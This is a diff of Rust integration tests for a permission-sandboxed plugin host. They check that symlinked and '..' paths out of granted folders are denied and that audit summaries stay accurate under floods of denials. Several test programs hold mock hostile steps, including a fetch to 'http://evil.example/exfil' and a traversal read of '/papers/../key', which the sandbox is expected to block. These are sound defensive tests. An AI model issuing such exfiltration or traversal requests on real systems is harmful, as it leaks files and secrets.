@@ -460,6 +460,64 @@ fn a_path_that_leads_out_is_a_denial_that_no_flag_lifts() {
 }
 
 #[test]
+fn a_write_that_leads_out_is_a_denial_whatever_the_folder_is_granted_for() {
+    let server = ModelServer::start(Vec::new());
+    let home = Home::with_model(&server, Format::OpenAi);
+    home.write("elsewhere/a.txt", "a\n");
+    for folder in ["desk", "papers"] {
+        home.write(&format!("{folder}/own.txt"), "o\n");
+        std::os::unix::fs::symlink("../elsewhere", home.work().join(folder).join("link")).unwrap();
+    }
+    let writes = |folder: &str| {
+        [("make", "new"), ("remove", "a.txt"), ("rename", "a.txt")]
+            .map(|(deed, name)| files(deed, &format!("/{folder}/link/{name}"), 1))
+    };
+    let all = [
+        &writes("desk")[..],
+        &writes("papers")[..],
+        &[files("remove", "/papers/own.txt", 1)],
+    ]
+    .concat();
+    let host = with_probe_tool(&home).args(["--allow", "fs:./desk:rw", "--allow", "fs:./papers"]);
+    let output = host.probe(&steps(&[tool(&all)])).output().expect(0);
+    let mut expected = Vec::new();
+    for folder in ["desk", "papers"] {
+        for (name, count) in [("new", 1), ("a.txt", 2), ("a.txt.new", 1)] {
+            let what = format!("write /{folder}/link/{name}");
+            expected.push((
+                json!(what),
+                json!(count),
+                json!([]),
+                json!("it leads out of the granted folder"),
+            ));
+        }
+    }
+    let papers = home.work().canonicalize().unwrap().join("papers").display().to_string();
+    let flags = json!([format!("--allow fs:{papers}:rw")]);
+    expected.push((json!("write /papers/own.txt"), json!(1), flags, Value::Null));
+    let denied = output.json()["denied"].as_array().unwrap().clone();
+    let told = |denial: &Value| {
+        let [what, count, flags, remedy] = ["what", "count", "flags", "remedy"].map(|key| denial[key].clone());
+        (what, count, flags, remedy)
+    };
+    assert_eq!(denied.iter().map(told).collect::<Vec<_>>(), expected);
+    let rows = audit(&home, &run_of(&output));
+    assert_eq!(rows.iter().filter(|row| row["way"] == "denied").count(), 7, "{rows:?}");
+    // The folder that may be written was used, in vain.
+    for (name, failed) in [("new", 1), ("a.txt", 2), ("a.txt.new", 1)] {
+        let target = json!(format!("/desk/link/{name}"));
+        let used = row(&rows, &[("way", json!("write")), ("target", target)]);
+        assert_eq!(
+            (&used["count"], &used["failed"]),
+            (&json!(failed), &json!(failed)),
+            "{used}"
+        );
+    }
+    let left = std::fs::read_dir(home.work().join("elsewhere")).unwrap().flatten();
+    assert_eq!(left.map(|entry| entry.file_name()).collect::<Vec<_>>(), ["a.txt"]);
+}
+
+#[test]
 fn every_way_to_use_a_folder_is_told() {
     let server = ModelServer::start(Vec::new());
     let home = Home::with_model(&server, Format::OpenAi);
@@ -506,11 +564,11 @@ fn every_way_to_use_a_folder_is_told() {
 }
 
 #[test]
-fn of_one_right_and_way_so_many_targets_are_named_and_the_others_counted() {
+fn of_one_right_and_way_so_many_targets_and_the_last_are_named_and_the_others_counted() {
     const MOST: usize = 3;
     let server = ModelServer::start(Vec::new());
     let home = Home::with_model(&server, Format::OpenAi);
-    for n in 0..=MOST {
+    for n in 0..MOST + 3 {
         home.write(&format!("out/{n}"), "x");
     }
     let audited = |reads: usize, lacks: usize| {
@@ -546,19 +604,122 @@ fn of_one_right_and_way_so_many_targets_are_named_and_the_others_counted() {
         (of(&at, "read"), of(&at, "denied")),
         (named("out", 2), named("shut", 1))
     );
-    let past = audited(MOST + 1, MOST + 1);
-    let with_further = |mut named: Vec<(Value, u64)>, further| {
-        named.push((Value::Null, further));
+    let and = |mut named: Vec<(Value, u64)>, beyond: &[(Value, u64)]| {
+        named.extend_from_slice(beyond);
         named
     };
-    assert_eq!(of(&past, "read"), with_further(named("out", 2), 2));
-    assert_eq!(of(&past, "denied"), with_further(named("shut", 1), 1));
-    for rows in [at, past] {
+    let past = audited(MOST + 1, MOST + 1);
+    assert_eq!(of(&past, "read"), and(named("out", 2), &[(json!("/out/3"), 2)]));
+    assert_eq!(of(&past, "denied"), and(named("shut", 1), &[(json!("/shut/3"), 1)]));
+    let far = audited(MOST + 3, MOST + 3);
+    let read = [(json!("/out/5"), 1), (Value::Null, 5)];
+    assert_eq!(of(&far, "read"), and(named("out", 2), &read));
+    let denied = [(json!("/shut/5"), 1), (Value::Null, 2)];
+    assert_eq!(of(&far, "denied"), and(named("shut", 1), &denied));
+    for rows in [at, past, far] {
         assert_eq!(
             of(&rows, "write"),
             [(json!("/out/last"), 1)],
             "no flood of reads hides a write"
         );
+    }
+}
+
+#[test]
+fn a_flood_of_denials_hides_none_of_another_kind_of_right() {
+    const MOST: usize = 3;
+    let server = ModelServer::start(Vec::new());
+    let home = Home::with_model(&server, Format::OpenAi);
+    home.write("papers/a.txt", "a\n");
+    let exfil = "http://evil.example/exfil";
+    let program = steps(&[tool(&[
+        files("stat", "/papers/../junk{}", 2 * MOST),
+        files("remove", "/papers/{}", 2 * MOST),
+        files("read", "/papers/../key", 1),
+        json!({ "do": "fetch", "url": exfil }),
+    ])]);
+    let host = with_probe_tool(&home).args(["--allow", "fs:./papers", "--output", "events", "--plugin"]);
+    let host = host.set("limits.audit.targets", MOST).arg(guests::built("probe"));
+    let output = host.arg(program.to_string()).output().expect(0);
+    let events = output.events();
+    let run = events.iter().find_map(|event| event["run"].as_str()).unwrap();
+    let told = |row: &Value| (row["grant"].clone(), row["target"].clone(), row["count"].clone());
+    let papers = home.work().canonicalize().unwrap().join("papers").display().to_string();
+    let mut expected: Vec<(Value, Value, Value)> = Vec::new();
+    for n in 0..MOST {
+        expected.push((Value::Null, json!(format!("/papers/../junk{n}")), json!(1)));
+    }
+    expected.push((Value::Null, Value::Null, json!(MOST)));
+    expected.push((Value::Null, json!("/papers/../key"), json!(1)));
+    let write = json!(format!("fs:{papers}:rw"));
+    for n in 0..MOST {
+        expected.push((write.clone(), json!(format!("/papers/{n}")), json!(1)));
+    }
+    expected.push((json!("fs"), Value::Null, json!(MOST - 1)));
+    expected.push((write, json!("/papers/5"), json!(1)));
+    let send = (
+        json!("net:GET@http://evil.example"),
+        json!(format!("GET {exfil}")),
+        json!(1),
+    );
+    expected.push(send);
+    let mut rows = audit(&home, run);
+    rows.retain(|row| row["way"] == "denied");
+    assert_eq!(rows.iter().map(told).collect::<Vec<_>>(), expected);
+    let denied = events.iter().filter(|event| event["event"] == "denied");
+    assert_eq!(
+        denied.map(told).collect::<Vec<_>>(),
+        expected,
+        "the events are the same"
+    );
+    let shown = home.host().args(["show", run, "--audit"]).output().expect(0).stdout;
+    for words in ["and further ones  3 times", "and further ones for lack of fs  2 times"] {
+        assert!(shown.contains(words), "{words}: {shown}");
+    }
+}
+
+#[test]
+fn the_page_names_what_each_plugin_lacked_of_each_kind_and_the_flags_of_that_alone() {
+    let server = ModelServer::start(Vec::new());
+    let home = Home::with_model(&server, Format::OpenAi);
+    home.write("papers/a.txt", "a\n");
+    let sends = (0..40).map(|n| json!({ "do": "fetch", "url": format!("http://h{n}.example/") }));
+    let flood: Vec<Value> = sends.chain([files("remove", "/papers/{}", 40)]).collect();
+    let program = steps(&[tool(&flood), fetch("http://evil.example/exfil")]);
+    let host = with_probe_tool(&home).args(["--allow", "fs:./papers"]);
+    let output = host.probe(&program).output().expect(0);
+    let denied = output.json()["denied"].as_array().unwrap().clone();
+    let of = |plugin: &str, kind: &str| -> usize {
+        let grant = |denial: &&Value| denial["grant"].as_str().is_some_and(|grant| grant.starts_with(kind));
+        denied
+            .iter()
+            .filter(|denial| denial["plugin"] == plugin)
+            .filter(grant)
+            .count()
+    };
+    assert_eq!(
+        (of("probe-tool", "net:"), of("probe-tool", "fs:"), of("web", "net:")),
+        (32, 32, 1)
+    );
+    assert_eq!(denied.last().unwrap()["count"], 16, "8 of each further kind");
+    let page = &output.stderr[output.stderr.find("denied: 81 times\n").unwrap()..];
+    for words in [
+        "probe-tool may not write /papers/0\n",
+        "web may not send GET http://evil.example/exfil\n",
+    ] {
+        assert!(page.contains(words), "{words}: {page}");
+    }
+    let all = page
+        .lines()
+        .find_map(|line| line.strip_prefix("  all of it   "))
+        .unwrap();
+    let flags: Vec<&str> = all
+        .split(" --allow ")
+        .map(|flag| flag.trim_start_matches("--allow "))
+        .collect();
+    assert_eq!(flags.len(), 10, "eight, and one for each other plugin and kind: {all}");
+    for flag in flags {
+        assert!(page.contains(&format!("\n    --allow {flag}\n")), "{flag}: {page}");
     }
 }
 
